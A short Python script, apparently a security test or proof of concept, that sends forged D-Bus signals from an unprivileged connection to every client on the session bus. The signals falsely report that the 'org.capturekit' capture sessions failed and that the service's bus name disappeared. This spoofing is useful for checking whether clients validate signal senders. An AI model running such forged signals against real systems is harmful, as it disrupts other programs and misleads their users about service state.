#!/usr/bin/python3
"""Sends every program on the bus signals of captured's, from a connection that is not captured."""
import dbus, dbus.lowlevel

SERVICE, ROOT = "org.capturekit.Capture1", "/org/capturekit/Capture1"
bus = dbus.SessionBus()


def tell(name, path, interface, member, *arguments):
    message = dbus.lowlevel.SignalMessage(path, interface, member)
    message.set_destination(name)
    message.append(*arguments)
    bus.send_message(message)


for name in bus.list_names():
    if not name.startswith(":"):
        continue
    for number in range(1, 100):
        session = f"{ROOT}/sessions/{number}"
        tell(name, session, "org.freedesktop.DBus.Properties", "PropertiesChanged", SERVICE + ".Session",
             dbus.Dictionary({"State": "failed", "ReasonCode": "DeviceLost", "Reason": "forged"}, signature="sv"),
             dbus.Array([], signature="s"))
    tell(name, "/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", SERVICE, ":1.1", "")
bus.flush()
# Until the bus has passed them on.
bus.list_names()
